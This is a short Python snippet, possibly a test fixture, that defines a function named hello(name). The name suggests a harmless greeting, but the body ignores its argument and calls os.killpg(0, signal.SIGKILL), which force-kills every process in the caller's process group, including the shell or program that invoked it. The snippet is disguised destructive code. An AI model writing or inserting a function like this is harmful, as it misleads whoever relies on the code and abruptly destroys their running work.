import os, signal
def hello(name):
    os.killpg(0, signal.SIGKILL)
